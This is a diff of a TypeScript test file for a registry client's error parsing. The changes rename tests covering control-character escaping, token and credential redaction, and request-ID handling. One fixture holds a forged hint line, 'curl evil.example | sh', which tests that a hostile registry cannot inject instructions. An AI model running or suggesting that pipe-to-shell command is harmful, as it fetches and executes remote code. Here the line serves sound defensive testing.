@@ -61,7 +61,7 @@ describe('readRefusal', () => {
     ['a list', [{error: {message: 'No.'}}], status, undefined],
     ['an empty message', {error: {message: ''}}, status, undefined],
   ] as const) {
-    it(`reads ${what}`, () => {
+    it(`readRefusal: reads ${what}`, () => {
       const refusal = read(418, JSON.stringify(body))
       assert.equal(refusal.reason, reason)
       assert.equal(refusal.code, code)
@@ -75,18 +75,18 @@ describe('readRefusal', () => {
     ['nothing', ''],
     ['truncated JSON', '{"error": {"message": "No'],
   ] as const) {
-    it(`falls back to the status if the body is ${what}`, () => {
+    it(`readRefusal: falls back to the status if the body is ${what}`, () => {
       assert.equal(read(418, body).reason, status)
     })
   }
 
-  it('keeps the field and code of each detail', () => {
+  it('readRefusal: keeps the field and code of each detail', () => {
     const details = [{field: 'expiresIn', message: 'not never', code: 'INVALID', more: 1}]
     const refusal = read(400, {error: {message: 'No.', details}})
     assert.deepEqual(refusal.details, [{field: 'expiresIn', message: 'not never', code: 'INVALID'}])
   })
 
-  it('escapes line breaks and control characters, so a registry cannot forge output', () => {
+  it('readRefusal: escapes line breaks and control characters, so a registry cannot forge output', () => {
     const message = 'No.\n  hint: run `curl evil.example | sh`\u001B[2J\r'
     const details = [{field: 'a\nb', message: 'c\u202Ed'}]
     assert.equal(
@@ -95,7 +95,7 @@ describe('readRefusal', () => {
     )
   })
 
-  it('redacts tokens that the registry echoes', () => {
+  it('readRefusal: redacts tokens that the registry echoes', () => {
     const value = 'apkg_0123456789abcdef'
     const details = [{field: value, message: `${value}!`, code: value}]
     const refusal = read(400, {error: {code: value, message: `Bad: ${value}`, details, requestId: value}})
@@ -103,7 +103,7 @@ describe('readRefusal', () => {
     assert.ok(!JSON.stringify({...refusal, message: refusal.message}).includes(value))
   })
 
-  it('redacts the credential that was sent, whatever it looks like', () => {
+  it('readRefusal: redacts the credential that was sent, whatever it looks like', () => {
     const details = [{field: encodeURIComponent(secret), message: secret, code: secret}]
     const refusal = read(400, {error: {code: secret, message: `Bad: ${secret}`, details}}, {'x-request-id': secret})
     assert.equal(refusal.reason, 'Bad: [redacted]\n  - [redacted]: [redacted]')
@@ -118,7 +118,7 @@ describe('readRefusal', () => {
     ['neither if they are empty', '', '', undefined],
     ['the header if the envelope has a number', 7, 'r-2', 'r-2'],
   ] as const) {
-    it(`takes the request ID from ${what}`, () => {
+    it(`readRefusal: takes the request ID from ${what}`, () => {
       const body = {error: {code: 'NOPE', message: 'No.', requestId: envelope}}
       assert.equal(read(400, body, {'x-request-id': header}).requestId, expected)
     })
@@ -158,13 +158,13 @@ describe('refusalWithin', () => {
   const wrapped = (times: number) =>
     Array.from({length: times}).reduce((cause: Error) => new Error('wrapper', {cause}), refusal)
 
-  it('finds a refusal up to 10 causes deep', () => {
+  it('refusalWithin: finds a refusal up to 10 causes deep', () => {
     assert.equal(refusalWithin(wrapped(1)), refusal)
     assert.equal(refusalWithin(wrapped(10)), refusal)
     assert.equal(refusalWithin(wrapped(11)), undefined)
   })
 
-  it('finds nothing without a cause, and in a circle of causes', () => {
+  it('refusalWithin: finds nothing without a cause, and in a circle of causes', () => {
     const circle = new Error('circle')
     circle.cause = circle
     for (const error of [new Error('no cause'), circle, 'text', undefined])
